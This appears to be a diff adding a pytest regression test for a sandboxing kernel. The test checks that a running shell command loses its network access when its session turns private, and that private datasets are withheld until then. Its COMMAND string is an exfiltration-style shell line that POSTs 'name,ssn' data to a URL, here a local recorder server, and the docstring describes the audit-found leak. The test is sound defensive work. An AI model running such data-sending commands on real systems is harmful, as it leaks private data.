@@ -1,0 +1,167 @@
+"""A shell command (``sandbox_execute``) that started while its session was
+public loses its way out when the session rises, like the cells' sandbox.
+
+An audit found the hole: with no REPL engine live, the shell tool ran its
+command through an engine of its own that the registry's watcher never saw,
+so its egress proxy stayed open after the rise; on a user-mode or host
+network nothing tracked the command at all. A connector's
+``add_private_dataset(wait=...)`` timed out (or, worse, a holder reported
+"no network" while it had some), and the command sent the private file a
+sandbox of another session had copied into the shared folder.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from kernel_helpers import SandboxKernelHandle
+
+from sandbox_kernel.network import EgressPolicy
+from sandbox_kernel.privacy import PrivateData
+from sandbox_kernel.tools import SessionRegistry, ToolsConfig, sandbox_execute
+
+pytestmark = pytest.mark.asyncio
+
+
+class Recorder(BaseHTTPRequestHandler):
+    got: list[bytes] = []
+
+    def do_POST(self) -> None:
+        Recorder.got.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
+        self.send_response(200)
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"ok")
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def recorder() -> Iterator[int]:
+    Recorder.got = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield server.server_address[1]
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+# waits for the go, then shows its interfaces and posts the file
+COMMAND = (
+    "touch /workspace/started; while [ ! -e /workspace/go ]; do sleep 0.05; done; "
+    "echo IFACES $(tail -n +3 /proc/net/dev | cut -d: -f1); "
+    'python3 -c "import urllib.request as u; '
+    "print('SENT', u.urlopen(u.Request('{url}', data=b'name,ssn')).read())\""
+)
+
+
+@pytest.mark.parametrize("network", ["proxied", "host", "user"])
+async def test_a_running_command_loses_its_network_when_the_session_rises(
+    network: str, recorder: int, data_dir: Path
+) -> None:
+    # "user" (pasta) cannot reach the host's loopback: only its interfaces are checked
+    url = f"http://files.example:{recorder}/x" if network == "proxied" else f"http://127.0.0.1:{recorder}/x"
+    reg = SessionRegistry(
+        ToolsConfig(
+            backend="bwrap",
+            idle_timeout=600,
+            network=network,
+            egress_policy=EgressPolicy(allow=["files.example"], allow_addresses=["127.0.0.1"]),
+            egress_name_overrides={"files.example": ["127.0.0.1"]},
+        )
+    )
+    try:
+        session = await reg.get("alice", "shell")
+        session.workspace.mkdir(parents=True, exist_ok=True)
+        command = asyncio.create_task(
+            sandbox_execute(COMMAND.format(url=url), timeout=120, user_id="alice", session_id="shell", registry=reg)
+        )
+        for _ in range(600):
+            if (session.workspace / "started").exists() or command.done():
+                break
+            await asyncio.sleep(0.05)
+        assert (session.workspace / "started").exists(), command.result().text if command.done() else "not started"
+        assert session.engine is None  # the command runs in an engine of its own
+        # A connector raises the session and waits, as documented, until no
+        # sandbox of it has network: the command's must count, and be cut.
+        connector = PrivateData("alice", "shell", reg.config.privacy_store())
+        await asyncio.to_thread(connector.add_private_dataset, "crm", "SECRET", "connector", wait=15)
+        (session.workspace / "go").touch()
+        result = (await asyncio.wait_for(command, 60)).text
+    finally:
+        await reg.aclose()
+    assert "SENT" not in result, result
+    assert Recorder.got == [], result
+    if network == "host":
+        assert "Exit code: -9" in result, result  # the host's network cannot be taken away: the command is killed
+    else:
+        iface_line = next(line for line in result.splitlines() if line.startswith("IFACES"))
+        assert iface_line.split()[1:] == ["lo"], result
+
+
+async def test_private_datasets_wait_for_every_holder_of_the_folder_to_lose_its_network(
+    recorder: int, data_dir: Path, tmp_path: Path
+) -> None:
+    """A notebook in the folder of an agent's session adds a private dataset:
+    the agent's command, still public, rises with the folder but cuts its
+    network only at its watcher's next poll. The notebook's new sandbox must
+    not get the dataset before every holder of the folder reports the cut;
+    here the agent's registry has no watcher, so it never does, and the
+    mount is withheld with a notice naming the holder."""
+    reg = SessionRegistry(ToolsConfig(backend="bwrap", idle_timeout=600, network="host", privacy_poll_interval=0))
+    kernel = None
+    try:
+        session = await reg.get("alice", "agent")
+        session.workspace.mkdir(parents=True, exist_ok=True)
+        url = f"http://127.0.0.1:{recorder}/x"
+        command = asyncio.create_task(
+            sandbox_execute(COMMAND.format(url=url), timeout=120, user_id="alice", session_id="agent", registry=reg)
+        )
+        for _ in range(600):
+            if (session.workspace / "started").exists() or command.done():
+                break
+            await asyncio.sleep(0.05)
+        assert (session.workspace / "started").exists(), command.result().text if command.done() else "not started"
+        secret = tmp_path / "crm.csv"
+        secret.write_text("name,ssn\nbob,123-45-6789\n")
+        (tmp_path / "ktmp").mkdir()
+        datasets = json.dumps({"crm": {"source": str(secret), "sensitivity": "SECRET"}})
+        kernel = await asyncio.to_thread(
+            SandboxKernelHandle,
+            session.workspace,
+            tmp_path / "ktmp",
+            [
+                "--SandboxKernel.backend=bwrap",
+                f"--SandboxKernel.private_datasets={datasets}",
+                "--SandboxKernel.user_id=alice",
+                "--SandboxKernel.session_id=notebook",
+            ],
+            {"SANDBOX_KERNEL_DATA_DIR": str(data_dir)},
+        )
+        run = await asyncio.to_thread(
+            kernel.run, "import sandbox_kernel.private as p\np.add_dataset('crm', 'SECRET')", 90
+        )
+        assert run.status == "ok", (run.stderr, run.errors)
+        run = await asyncio.to_thread(
+            kernel.run, "import sandbox_kernel.private as p\nprint(open(p.dataset_path('crm')).read())", 90
+        )
+        shown = run.stdout + run.stderr
+        assert "123-45-6789" not in shown, shown
+        assert "The private datasets are not mounted in this sandbox" in shown, shown
+        assert "of session agent" in shown, shown
+        (session.workspace / "go").touch()
+        await asyncio.wait_for(command, 60)
+    finally:
+        if kernel is not None:
+            await asyncio.to_thread(kernel.shutdown)
+        await reg.aclose()
